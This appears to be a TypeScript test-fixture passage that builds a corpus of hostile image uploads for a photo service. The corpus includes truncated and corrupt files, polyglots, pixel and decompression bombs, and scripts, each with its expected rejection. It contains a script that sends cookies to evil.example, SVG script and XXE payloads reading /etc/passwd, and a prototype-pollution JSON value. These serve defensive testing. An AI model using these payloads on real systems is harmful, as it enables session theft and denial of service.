import zlib from 'node:zlib';
import sharp from 'sharp';
import { makeBmp } from './bmp.ts';
import { makePhoto, pixelAt } from './images.ts';
import { crc32, fixPngCrc, jpegScanRange, jpegSegments, pngChunk, pngChunks, Prng } from './mutation-fuzzer.ts';
import { makeScanBombJpeg, maxBombScans } from './scan-bomb.ts';

/**
 * The hostile-upload corpus: files a broken camera, a truncated transfer or an attacker would send,
 * generated with sharp (and by hand where sharp cannot write the lie), deterministic and small.
 * Each item says what every upload path must do with it.
 */

export type UploadPath =
  | 'graph-put-me'
  | 'graph-patch-me'
  | 'graph-put-user'
  | 'graph-patch-user'
  | 'mail-form'
  | 'set-my-profile-picture'
  | 'cli-photo-set'
  | 'bulk-import';

export const UPLOAD_PATHS: readonly UploadPath[] = [
  'graph-put-me',
  'graph-patch-me',
  'graph-put-user',
  'graph-patch-user',
  'mail-form',
  'set-my-profile-picture',
  'cli-photo-set',
  'bulk-import',
];

export interface Expectation {
  /** reject: a 4xx (exit 1 / bad-image) and nothing changed; accept: stored, clean; either: one of the two, each checked. */
  outcome: 'reject' | 'accept' | 'either';
  /** The HTTP status when rejected (HTTP paths only; any 4xx when absent). */
  status?: number;
  /** What the message must say when rejected. */
  message?: RegExp;
}

export interface HostileItem {
  name: string;
  /** A short file-name-safe slug. */
  slug: string;
  /** The extension the CLI and import files get. */
  ext: string;
  bytes: Buffer;
  /** The Content-Type declared with the body (HTTP header, or the multipart part's type). */
  contentType?: string;
  expect(path: UploadPath): Expectation;
  /** Byte strings that must never appear in anything served back (payloads, metadata). */
  mustNotLeak?: (string | Buffer)[];
  /** More checks on the largest stored rendition when the upload was accepted. */
  checkStored?(largest: Buffer): Promise<string | undefined>;
}

export interface HostileCorpus {
  /** The known previous photo (a 700×700 JPEG) that rejected uploads must leave intact. */
  known: Buffer;
  items: HostileItem[];
}

const GRAPH_LIMIT = 4 * 1024 * 1024;
const SHAREPOINT_LIMIT = 5_000_000;

const isHttpGraphLike = (path: UploadPath) => path.startsWith('graph-') || path === 'mail-form' || path === 'cli-photo-set';

const reject = (status?: number, message?: RegExp): Expectation => ({
  outcome: 'reject',
  ...(status && { status }),
  ...(message && { message }),
});
const accept: Expectation = { outcome: 'accept' };
const either: Expectation = { outcome: 'either' };
const everywhere = (e: Expectation) => () => e;

/** COM segments (FF FE) inserted after SOI, `total` bytes of comment payload in all. */
export function withComments(jpeg: Buffer, total: number, fill: (i: number) => Buffer): Buffer {
  const segments: Buffer[] = [];
  let left = total;
  for (let i = 0; left > 0; i++) {
    const size = Math.min(65533, left);
    const head = Buffer.from([0xff, 0xfe, 0, 0]);
    head.writeUInt16BE(size + 2, 2);
    const body = Buffer.alloc(size);
    const pattern = fill(i);
    for (let at = 0; at < size; at += pattern.length) pattern.copy(body, at, 0, Math.min(pattern.length, size - at));
    segments.push(head, body);
    left -= size;
  }
  return Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
}

/** A valid JPEG padded with comment segments to exactly `size` bytes. */
export function jpegOfExactSize(jpeg: Buffer, size: number): Buffer {
  const filler = size - jpeg.length;
  if (filler < 8) throw new Error('the JPEG is already too large');
  const segments = Math.ceil(filler / 65537);
  const payload = filler - 4 * segments;
  const out: Buffer[] = [jpeg.subarray(0, 2)];
  let left = payload;
  for (let i = 0; i < segments; i++) {
    const size = i === segments - 1 ? left : Math.min(65533, Math.ceil(payload / segments));
    const head = Buffer.from([0xff, 0xfe, 0, 0]);
    head.writeUInt16BE(size + 2, 2);
    out.push(head, Buffer.alloc(size, 0x20));
    left -= size;
  }
  out.push(jpeg.subarray(2));
  const result = Buffer.concat(out);
  if (result.length !== size) throw new Error(`padding went wrong: ${result.length} ≠ ${size}`);
  return result;
}

/** The PNG with its IHDR width and height replaced (CRC fixed), so readers believe the lie. */
export function pngWithDeclaredSize(png: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(png);
  const ihdr = pngChunks(out).find((c) => c.type === 'IHDR')!;
  out.writeUInt32BE(width >>> 0, ihdr.dataOffset);
  out.writeUInt32BE(height >>> 0, ihdr.dataOffset + 4);
  fixPngCrc(out, ihdr);
  return out;
}

/** The JPEG with its SOF width and height replaced. */
export function jpegWithDeclaredSize(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  const sof = jpegSegments(out).find((s) => s.marker >= 0xc0 && s.marker <= 0xc2)!;
  out.writeUInt16BE(height, sof.offset + 5);
  out.writeUInt16BE(width, sof.offset + 7);
  return out;
}

/** Inserts chunks right after IHDR (before = false: right before IEND). */
export function pngInsert(png: Buffer, chunks: Buffer[], where: 'after-ihdr' | 'before-iend' | 'after-iend'): Buffer {
  const all = pngChunks(png);
  const ihdr = all.find((c) => c.type === 'IHDR')!;
  const iend = all.find((c) => c.type === 'IEND')!;
  const at = where === 'after-ihdr' ? ihdr.dataOffset + ihdr.length + 4 : where === 'before-iend' ? iend.offset : png.length;
  return Buffer.concat([png.subarray(0, at), ...chunks, png.subarray(at)]);
}

/** A one-file "stored" ZIP archive, valid enough for unzip. */
export function makeZip(name: string, data: Buffer): Buffer {
  const nameBytes = Buffer.from(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localSize = 30 + nameBytes.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + nameBytes.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, nameBytes, data, central, nameBytes, end]);
}

/** A PNG of all-zero 1-bit grey pixels, compressed as a decoder would see it: a real pixel bomb. */
function zeroPngBomb(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const row = Math.ceil(width / 8) + 1;
  const idat = zlib.deflateSync(Buffer.alloc(row * height), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** An APNG (animated PNG): the default image is frame 0, a second frame follows in fdAT. */
async function makeApng(): Promise<Buffer> {
  const first = await makePhoto('png', 200, 200, { color: '#2266aa', marker: '#ff0000' });
  const second = await sharp({ create: { width: 200, height: 200, channels: 3, background: '#00ff00' } })
    .png()
    .toBuffer();
  const idatOf = (png: Buffer) =>
    Buffer.concat(
      pngChunks(png)
        .filter((c) => c.type === 'IDAT')
        .map((c) => png.subarray(c.dataOffset, c.dataOffset + c.length)),
    );
  const actl = Buffer.alloc(8);
  actl.writeUInt32BE(2, 0);
  const fctl = (sequence: number) => {
    const data = Buffer.alloc(26);
    data.writeUInt32BE(sequence, 0);
    data.writeUInt32BE(200, 4);
    data.writeUInt32BE(200, 8);
    data.writeUInt16BE(1, 20);
    data.writeUInt16BE(2, 22);
    return pngChunk('fcTL', data);
  };
  const seq = Buffer.alloc(4);
  seq.writeUInt32BE(2);
  const withControl = pngInsert(first, [pngChunk('acTL', actl), fctl(0)], 'after-ihdr');
  return pngInsert(withControl, [fctl(1), pngChunk('fdAT', Buffer.concat([seq, idatOf(second)]))], 'before-iend');
}

/** A 1-bit BMP of zeros: tiny per pixel, so a 5 MB body can declare tens of megapixels. */
function oneBitBmp(width: number, height: number): Buffer {
  const rowSize = Math.ceil(width / 32) * 4;
  const dataOffset = 14 + 40 + 8;
  const bmp = Buffer.alloc(dataOffset + rowSize * height);
  bmp.write('BM', 0, 'latin1');
  bmp.writeUInt32LE(bmp.length, 2);
  bmp.writeUInt32LE(dataOffset, 10);
  bmp.writeUInt32LE(40, 14);
  bmp.writeInt32LE(width, 18);
  bmp.writeInt32LE(height, 22);
  bmp.writeUInt16LE(1, 26);
  bmp.writeUInt16LE(1, 28);
  bmp.writeUInt32LE(2, 46);
  // palette: black, white
  bmp.writeUInt32LE(0x00000000, 54);
  bmp.writeUInt32LE(0x00ffffff, 58);
  return bmp;
}

/** Pixels near the corners of the stored photo tell whether it was turned upright. */
async function uprightMarkerTopRight(largest: Buffer): Promise<string | undefined> {
  const { width } = await sharp(largest).metadata();
  const w = width ?? 0;
  const [r1, , b1] = await pixelAt(largest, Math.round(w * 0.9), Math.round(w * 0.06));
  const [r2, , b2] = await pixelAt(largest, Math.round(w * 0.06), Math.round(w * 0.06));
  const [r3, , b3] = await pixelAt(largest, Math.round(w * 0.9), Math.round(w * 0.9));
  if (!(r1 > 200 && b1 < 60)) return `top right should be the red marker (got r=${r1}, b=${b1}) in the ${w}px rendition`;
  if (!(b2 > 200 && r2 < 60)) return `top left should be blue (got r=${r2}, b=${b2}) in the ${w}px rendition`;
  if (!(b3 > 200 && r3 < 60)) return `bottom right should be blue (got r=${r3}, b=${b3}) in the ${w}px rendition`;
  return undefined;
}

export async function buildHostileCorpus(): Promise<HostileCorpus> {
  const rng = new Prng(20261125);
  const known = await makePhoto('jpeg', 700, 700, { color: '#445566', marker: '#ccbb22' });
  const jpeg = await makePhoto('jpeg', 300, 300, { color: '#3366cc' });
  const png = await makePhoto('png', 300, 300, { color: '#33cc66' });
  const small = await makePhoto('jpeg', 120, 120, { color: '#aa4411' });
  const items: HostileItem[] = [];
  const add = (item: HostileItem) => items.push(item);
  const damaged = /damaged or incomplete|could not be read|not an image|cannot be read/;
  const notImage = /not an image/;

  // --- nothing at all -------------------------------------------------------------------------
  add({
    name: 'zero bytes',
    slug: 'zero',
    ext: 'jpg',
    bytes: Buffer.alloc(0),
    expect: (p) => reject(400, p === 'mail-form' ? /Choose a photo/ : /empty/),
  });
  add({ name: 'one byte (0xFF)', slug: 'one-ff', ext: 'jpg', bytes: Buffer.from([0xff]), expect: everywhere(reject(400, notImage)) });
  add({ name: 'one byte (a space)', slug: 'one-space', ext: 'png', bytes: Buffer.from(' '), expect: everywhere(reject(400, notImage)) });
  add({
    name: 'JPEG start-of-image marker only (FF D8)',
    slug: 'soi2',
    ext: 'jpg',
    bytes: Buffer.from([0xff, 0xd8]),
    expect: everywhere(reject(400)),
  });
  add({
    name: 'JPEG signature only (FF D8 FF)',
    slug: 'soi3',
    ext: 'jpg',
    bytes: Buffer.from([0xff, 0xd8, 0xff]),
    expect: everywhere(reject(400, damaged)),
  });
  add({ name: 'PNG signature only', slug: 'png-sig', ext: 'png', bytes: png.subarray(0, 8), expect: everywhere(reject(400, damaged)) });

  // --- truncated ------------------------------------------------------------------------------
  const scan = jpegScanRange(jpeg)!;
  for (const [label, cut] of [
    ['in the APP0 header (20 bytes)', 20],
    ['in the quantisation tables (100 bytes)', 100],
    ['right before the scan data', scan.start],
    ['at 25%', Math.floor(jpeg.length * 0.25)],
    ['at 50%', Math.floor(jpeg.length * 0.5)],
    ['at 90%', Math.floor(jpeg.length * 0.9)],
    ['missing only the EOI marker', jpeg.length - 2],
  ] as const) {
    add({
      name: `truncated JPEG ${label}`,
      slug: `trunc-jpeg-${cut}`,
      ext: 'jpg',
      bytes: jpeg.subarray(0, cut),
      expect: everywhere(reject(400, damaged)),
    });
  }
  const idat = pngChunks(png).find((c) => c.type === 'IDAT')!;
  for (const [label, cut] of [
    ['in IHDR (20 bytes)', 20],
    ['after IHDR (33 bytes)', 33],
    ['in the middle of IDAT', idat.dataOffset + Math.floor(idat.length / 2)],
    ['at 90%', Math.floor(png.length * 0.9)],
  ] as const) {
    add({
      name: `truncated PNG ${label}`,
      slug: `trunc-png-${cut}`,
      ext: 'png',
      bytes: png.subarray(0, cut),
      expect: everywhere(reject(400, damaged)),
    });
  }
  // Every pixel is there, only the end marker is missing: accepting it is as fine as refusing it.
  add({
    name: 'truncated PNG missing only IEND',
    slug: 'trunc-png-iend',
    ext: 'png',
    bytes: png.subarray(0, png.length - 12),
    expect: everywhere(either),
  });

  // --- corrupt --------------------------------------------------------------------------------
  {
    const bytes = Buffer.from(jpeg);
    const at = scan.start + Math.floor((scan.end - scan.start) / 3);
    rng.bytes(64).copy(bytes, at);
    add({
      name: 'corrupt JPEG (64 random bytes in the scan data)',
      slug: 'corrupt-jpeg-scan',
      ext: 'jpg',
      bytes,
      expect: everywhere(reject(400, damaged)),
    });
    const zeros = Buffer.from(jpeg);
    zeros.fill(0xff, scan.start + 10, scan.start + 400);
    add({
      name: 'corrupt JPEG (scan data overwritten with FF bytes)',
      slug: 'corrupt-jpeg-ff',
      ext: 'jpg',
      bytes: zeros,
      expect: everywhere(reject(400, damaged)),
    });
  }
  {
    const bytes = Buffer.from(png);
    rng.bytes(64).copy(bytes, idat.dataOffset + 20);
    add({
      name: 'corrupt PNG (random bytes in IDAT, CRC wrong)',
      slug: 'corrupt-png-crc',
      ext: 'png',
      bytes,
      expect: everywhere(reject(400, damaged)),
    });
    const fixed = Buffer.from(bytes);
    fixPngCrc(fixed, idat);
    add({
      name: 'corrupt PNG (random bytes in IDAT, CRC fixed)',
      slug: 'corrupt-png-fixed',
      ext: 'png',
      bytes: fixed,
      expect: everywhere(reject(400, damaged)),
    });
  }
  add({
    name: '50 KB of seeded random bytes',
    slug: 'random',
    ext: 'jpg',
    bytes: rng.bytes(50_000),
    expect: everywhere(reject(400, notImage)),
  });

  // --- polyglots ------------------------------------------------------------------------------
  const script = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
  add({
    name: 'JPEG with an HTML/script page appended',
    slug: 'jpeg-html',
    ext: 'jpg',
    bytes: Buffer.concat([jpeg, Buffer.from(script)]),
    expect: everywhere(either),
    mustNotLeak: ['<script', 'evil.example'],
  });
  add({
    name: 'HTML page behind a JPEG signature',
    slug: 'jpeg-magic-html',
    ext: 'jpg',
    bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(script)]),
    expect: everywhere(reject(400, damaged)),
  });
  {
    const gif = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#808080' } })
      .gif()
      .toBuffer();
    // GIF89a/*…*/=alert(1)// — the width bytes open a JS comment: a file that is both a GIF and a script.
    const polyglot = Buffer.concat([
      Buffer.from('GIF89a/*', 'latin1'),
      gif.subarray(8),
      Buffer.from('*/=alert(document.domain);//', 'latin1'),
    ]);
    add({ name: 'GIF/JavaScript polyglot', slug: 'gif-js', ext: 'jpg', bytes: polyglot, expect: everywhere(reject(415, /GIF/)) });
  }
  add({
    name: 'PNG with a ZIP archive appended',
    slug: 'png-zip',
    ext: 'png',
    bytes: Buffer.concat([png, makeZip('payload.html', Buffer.from(`secret archive contents ${script}`))]),
    expect: everywhere(either),
    mustNotLeak: [Buffer.from('PK\x03\x04', 'latin1'), 'secret archive', '<script'],
  });
  add({
    name: 'PNG with a ZIP archive inside an ancillary chunk',
    slug: 'png-zip-chunk',
    ext: 'png',
    bytes: pngInsert(png, [pngChunk('zIPp', makeZip('x.html', Buffer.from(`secret archive ${script}`)))], 'after-ihdr'),
    expect: everywhere(either),
    mustNotLeak: [Buffer.from('PK\x03\x04', 'latin1'), 'secret archive'],
  });

  // --- pixel bombs and lying dimensions ------------------------------------------------------
  add({
    name: 'pixel bomb: PNG whose IHDR declares 50000×50000 (tiny file)',
    slug: 'bomb-ihdr',
    ext: 'png',
    bytes: pngWithDeclaredSize(png, 50_000, 50_000),
    expect: everywhere(reject(400, /megapixels/)),
  });
  {
    const bomb = zeroPngBomb(20_000, 20_000);
    add({
      name: `pixel bomb: real 20000×20000 1-bit PNG of zeros (${Math.round(bomb.length / 1024)} KB)`,
      slug: 'bomb-real',
      ext: 'png',
      bytes: bomb,
      expect: everywhere(reject(400, /megapixels/)),
    });
  }
  add({
    name: 'pixel bomb: JPEG whose SOF declares 65500×65500',
    slug: 'bomb-sof',
    ext: 'jpg',
    bytes: jpegWithDeclaredSize(jpeg, 65_500, 65_500),
    expect: everywhere(reject(400, /megapixels/)),
  });
  add({
    name: 'PNG IHDR width 2^31-1 × height 1',
    slug: 'ihdr-wide',
    ext: 'png',
    bytes: pngWithDeclaredSize(png, 0x7fffffff, 1),
    expect: everywhere(reject(400)),
  });
  add({ name: 'PNG IHDR says 0×0', slug: 'ihdr-zero', ext: 'png', bytes: pngWithDeclaredSize(png, 0, 0), expect: everywhere(reject(400)) });
  add({
    name: 'PNG IHDR says 100×100, data is for 300×300',
    slug: 'ihdr-smaller',
    ext: 'png',
    bytes: pngWithDeclaredSize(png, 100, 100),
    expect: everywhere(either),
  });
  add({
    name: 'PNG IHDR says 600×600, data is for 300×300',
    slug: 'ihdr-larger',
    ext: 'png',
    bytes: pngWithDeclaredSize(png, 600, 600),
    expect: everywhere(reject(400, damaged)),
  });
  add({
    name: 'PNG IHDR says 6000×6000 (36 MP, under the limit), data is for 300×300',
    slug: 'ihdr-36mp',
    ext: 'png',
    bytes: pngWithDeclaredSize(png, 6000, 6000),
    expect: everywhere(reject(400, damaged)),
  });
  add({
    name: 'JPEG SOF says 100×100, scan is for 300×300',
    slug: 'sof-smaller',
    ext: 'jpg',
    bytes: jpegWithDeclaredSize(jpeg, 100, 100),
    expect: everywhere(either),
  });
  add({
    name: 'JPEG SOF says 3000×3000, scan is for 300×300',
    slug: 'sof-larger',
    ext: 'jpg',
    bytes: jpegWithDeclaredSize(jpeg, 3000, 3000),
    expect: everywhere(reject(400, damaged)),
  });
  add({
    name: 'JPEG SOF says width 0',
    slug: 'sof-zero',
    ext: 'jpg',
    bytes: jpegWithDeclaredSize(jpeg, 0, 300),
    expect: everywhere(reject(400)),
  });

  // --- decode-cost bombs ----------------------------------------------------------------------
  // Progressive JPEGs of a few hundred KB whose thousands of nearly empty scans each make the decoder
  // visit every block again (issue 10: 11–15 s at 3000×3000, 49 s at 6000×6000). Refused before
  // decoding, by counting scans; a file at the limit is a photo like any other.
  const tooManyScans = /scans; photos have at most \d+\. Save it again as a normal JPEG\./;
  const kb = (bytes: Buffer) => `${Math.round(bytes.length / 1024)} KB`;
  for (const [side, components] of [
    [3000, 3],
    [6000, 3],
    [4000, 1],
  ] as const) {
    const bomb = makeScanBombJpeg({ width: side, height: side, scans: maxBombScans(components), components });
    const scans = maxBombScans(components).toLocaleString('en');
    add({
      name: `scan bomb: progressive ${side}×${side} ${components === 1 ? 'greyscale ' : ''}JPEG with ${scans} scans (${kb(bomb)})`,
      slug: `scan-bomb-${side}-${components}`,
      ext: 'jpg',
      bytes: bomb,
      expect: everywhere(reject(400, tooManyScans)),
    });
  }
  {
    const bomb = makeScanBombJpeg({ width: 1000, height: 1000, scans: 500, restartInterval: 512 });
    add({
      name: `scan bomb with restart markers: 1000×1000, 500 scans, RSTn every 512 blocks (${kb(bomb)})`,
      slug: 'scan-bomb-rst',
      ext: 'jpg',
      bytes: bomb,
      expect: everywhere(reject(400, tooManyScans)),
    });
  }
  {
    // 0xFF fill bytes may precede any marker; a counter that looks for FF DA pairs only at segment
    // boundaries would miss these scans, the decoder does not.
    const bomb = makeScanBombJpeg({ width: 3000, height: 3000, scans: 1500 });
    const filled = Buffer.from(bomb.toString('latin1').replace(/\xff\xda/g, '\xff\xff\xff\xda'), 'latin1');
    add({
      name: `scan bomb with 0xFF fill bytes before every scan: 3000×3000, 1,500 scans (${kb(filled)})`,
      slug: 'scan-bomb-fill',
      ext: 'jpg',
      bytes: filled,
      expect: everywhere(reject(400, tooManyScans)),
    });
  }
  add({
    name: 'scan bomb by size: progressive 6000×6000 JPEG with 60 scans (each allowed, too many at that size)',
    slug: 'scan-bomb-size',
    ext: 'jpg',
    bytes: makeScanBombJpeg({ width: 6000, height: 6000, scans: 60 }),
    expect: everywhere(reject(400, /60 scans, too many to decode at that size/)),
  });
  {
    // A real one (40 MP of 16-bit RGBA, interlaced) decodes in ~2 s from under 500 KB; the header says it all.
    const deep = await sharp({ create: { width: 64, height: 64, channels: 4, background: { r: 10, g: 200, b: 30, alpha: 0.5 } } })
      .toColourspace('rgb16')
      .png({ progressive: true })
      .toBuffer();
    add({
      name: 'PNG whose IHDR declares 6320×6320 16-bit RGBA, interlaced (39.9 MP, under the pixel limit)',
      slug: 'png-deep-interlaced',
      ext: 'png',
      bytes: pngWithDeclaredSize(deep, 6320, 6320),
      expect: everywhere(reject(400, /PNG \(16-bit, interlaced\) is too much to decode/)),
    });
  }
  add({
    name: 'progressive 1500×1500 JPEG with 100 scans (the limit)',
    slug: 'scans-100',
    ext: 'jpg',
    bytes: makeScanBombJpeg({ width: 1500, height: 1500, scans: 100 }),
    expect: everywhere(accept),
  });
  add({
    name: 'JPEG with a 2,647-scan bomb after its end (EOI): the decoder never reads it',
    slug: 'scan-bomb-after-eoi',
    ext: 'jpg',
    bytes: Buffer.concat([jpeg, makeScanBombJpeg({ width: 3000, height: 3000, scans: maxBombScans(3) })]),
    expect: everywhere(accept),
  });

  // --- scripts and documents -----------------------------------------------------------------
  add({
    name: 'SVG with <script>',
    slug: 'svg-script',
    ext: 'jpg',
    bytes: Buffer.from(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(1)"><script>alert(document.cookie)</script><rect width="300" height="300" fill="red"/></svg>',
    ),
    expect: everywhere(reject(415, /SVG/)),
  });
  add({
    name: 'SVG with a BOM, whitespace and an XXE entity',
    slug: 'svg-xxe',
    ext: 'png',
    bytes: Buffer.from(
      '\uFEFF\n\n  <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><text y="20">&xxe;</text></svg>',
    ),
    expect: everywhere(reject(415, /SVG/)),
  });
  add({
    name: 'SVG hidden after 5 KB of XML comment',
    slug: 'svg-late',
    ext: 'jpg',
    bytes: Buffer.from(
      `<!--${' '.repeat(5000)}--><svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><script>alert(1)</script></svg>`,
    ),
    expect: everywhere(reject()),
  });
  add({
    name: 'gzipped SVG (svgz)',
    slug: 'svgz',
    ext: 'jpg',
    bytes: zlib.gzipSync('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><script>alert(1)</script></svg>'),
    expect: everywhere(reject()),
  });
  add({
    name: 'HTML page',
    slug: 'html',
    ext: 'jpg',
    bytes: Buffer.from(`<!doctype html>${script}`),
    expect: everywhere(reject(400, notImage)),
  });
  add({
    name: 'JSON document',
    slug: 'json',
    ext: 'jpg',
    bytes: Buffer.from('{"photo": "not really", "__proto__": {"admin": true}}'),
    expect: everywhere(reject(400, notImage)),
  });
  add({
    name: 'PDF',
    slug: 'pdf',
    ext: 'jpg',
    bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'),
    expect: everywhere(reject(415, /PDF/)),
  });
  add({
    name: 'UTF-16 text with a BOM',
    slug: 'utf16',
    ext: 'jpg',
    bytes: Buffer.from('\uFEFFhello, this is text, not a photo', 'utf16le'),
    expect: everywhere(reject(400, notImage)),
  });

  // --- huge metadata --------------------------------------------------------------------------
  add({
    name: 'JPEG with 3 MB of COM (comment) segments',
    slug: 'jpeg-3mb-comment',
    ext: 'jpg',
    bytes: withComments(jpeg, 3 * 1024 * 1024, (i) => Buffer.from(`SECRET-COMMENT-${i} `)),
    expect: everywhere(accept),
    mustNotLeak: ['SECRET-COMMENT'],
  });
  {
    // 48 APP1 segments of near-maximal size, the first one a real EXIF block with GPS.
    const exif = await sharp(jpeg)
      .withExif({ IFD0: { Copyright: 'SECRET-OWNER' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } })
      .jpeg()
      .toBuffer();
    const app1 = Buffer.alloc(65535 + 2);
    app1[0] = 0xff;
    app1[1] = 0xe1;
    app1.writeUInt16BE(65535, 2);
    Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>SECRET-XMP GPSLatitude="51,30N"').copy(app1, 4);
    const huge = Buffer.concat([exif.subarray(0, 2), ...Array.from({ length: 48 }, () => app1), exif.subarray(2)]);
    add({
      name: `JPEG with 48 maximal APP1 segments (${(huge.length / 1048576).toFixed(1)} MB of EXIF/XMP)`,
      slug: 'jpeg-app1',
      ext: 'jpg',
      bytes: huge,
      expect: everywhere(either),
      mustNotLeak: ['SECRET-OWNER', 'SECRET-XMP', 'GPSLatitude', 'Exif\0'],
    });
  }
  {
    const icc = Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), rng.bytes(2000)]);
    const app2 = Buffer.concat([Buffer.from([0xff, 0xe2, 0, 0]), icc]);
    app2.writeUInt16BE(icc.length + 2, 2);
    add({
      name: 'JPEG with a corrupt ICC profile (APP2)',
      slug: 'jpeg-bad-icc',
      ext: 'jpg',
      bytes: Buffer.concat([jpeg.subarray(0, 2), app2, jpeg.subarray(2)]),
      expect: everywhere(either),
    });
  }
  add({
    name: 'PNG with a 3 MB tEXt chunk',
    slug: 'png-3mb-text',
    ext: 'png',
    bytes: pngInsert(
      png,
      [pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.alloc(3 * 1024 * 1024, 'SECRET-TEXT ')]))],
      'after-ihdr',
    ),
    expect: everywhere(accept),
    mustNotLeak: ['SECRET-TEXT'],
  });
  add({
    name: 'PNG with a zTXt decompression bomb (64 MB of text in ~64 KB)',
    slug: 'png-ztxt-bomb',
    ext: 'png',
    bytes: pngInsert(
      png,
      [pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024, 'A'), { level: 9 })]))],
      'after-ihdr',
    ),
    expect: everywhere(either),
  });
  add({
    name: 'PNG with an iCCP decompression bomb (64 MB profile in ~64 KB)',
    slug: 'png-iccp-bomb',
    ext: 'png',
    bytes: pngInsert(
      png,
      [pngChunk('iCCP', Buffer.concat([Buffer.from('bomb\0\0'), zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 })]))],
      'after-ihdr',
    ),
    expect: everywhere(either),
  });

  // --- animated -------------------------------------------------------------------------------
  {
    const frames = await Promise.all(
      ['#ff0000', '#00ff00', '#0000ff'].map((c) =>
        sharp({ create: { width: 200, height: 200, channels: 3, background: c } })
          .png()
          .toBuffer(),
      ),
    );
    const animated = () => sharp(frames, { join: { animated: true } });
    add({
      name: 'animated GIF (3 frames)',
      slug: 'anim-gif',
      ext: 'jpg',
      bytes: await animated()
        .gif({ loop: 0, delay: [100, 100, 100] })
        .toBuffer(),
      expect: everywhere(reject(415, /GIF/)),
    });
    add({
      name: 'animated WebP (3 frames)',
      slug: 'anim-webp',
      ext: 'jpg',
      bytes: await animated()
        .webp({ loop: 0, delay: [100, 100, 100] })
        .toBuffer(),
      expect: everywhere(reject(415, /WebP/)),
    });
  }
  add({
    name: 'animated PNG (APNG, 2 frames): the default image is kept',
    slug: 'apng',
    ext: 'png',
    bytes: await makeApng(),
    expect: everywhere(accept),
  });

  // --- colour, depth, orientation, location --------------------------------------------------
  add({
    name: 'CMYK JPEG',
    slug: 'cmyk',
    ext: 'jpg',
    bytes: await sharp(await makePhoto('jpeg', 400, 400))
      .toColourspace('cmyk')
      .jpeg()
      .toBuffer(),
    expect: everywhere(accept),
  });
  add({
    name: '16-bit PNG',
    slug: 'png16',
    ext: 'png',
    bytes: await sharp(await makePhoto('png', 400, 400))
      .toColourspace('rgb16')
      .png()
      .toBuffer(),
    expect: everywhere(accept),
  });
  add({
    name: 'greyscale JPEG',
    slug: 'grey',
    ext: 'jpg',
    bytes: await sharp(await makePhoto('jpeg', 300, 300))
      .greyscale()
      .jpeg()
      .toBuffer(),
    expect: everywhere(accept),
  });
  add({
    name: 'palette PNG with transparency',
    slug: 'palette',
    ext: 'png',
    bytes: await sharp({ create: { width: 200, height: 200, channels: 4, background: { r: 200, g: 0, b: 0, alpha: 0.3 } } })
      .png({ palette: true })
      .toBuffer(),
    expect: everywhere(accept),
  });
  add({
    name: 'progressive JPEG',
    slug: 'progressive',
    ext: 'jpg',
    bytes: await sharp(await makePhoto('jpeg', 300, 300))
      .jpeg({ progressive: true })
      .toBuffer(),
    expect: everywhere(accept),
  });
  add({
    name: 'interlaced PNG',
    slug: 'interlaced',
    ext: 'png',
    bytes: await sharp(await makePhoto('png', 300, 300))
      .png({ progressive: true })
      .toBuffer(),
    expect: everywhere(accept),
  });
  {
    // Stored landscape, red marker top-left; orientation 6 = display rotated 90° clockwise, so upright
    // the marker is top right. 960×720 → the 648 rendition exists.
    const stored = await makePhoto('jpeg', 960, 720, { color: '#0000ff', marker: '#ff0000' });
    add({
      name: 'EXIF-rotated JPEG (orientation 6)',
      slug: 'exif-rotated',
      ext: 'jpg',
      bytes: await sharp(stored).withMetadata({ orientation: 6 }).jpeg().toBuffer(),
      expect: everywhere(accept),
      checkStored: uprightMarkerTopRight,
    });
  }
  add({
    name: 'GPS-tagged JPEG (EXIF GPS, camera make, copyright)',
    slug: 'gps',
    ext: 'jpg',
    bytes: await sharp(await makePhoto('jpeg', 500, 500))
      .withExif({
        IFD0: { Make: 'SECRET-CAM', Copyright: 'SECRET-OWNER' },
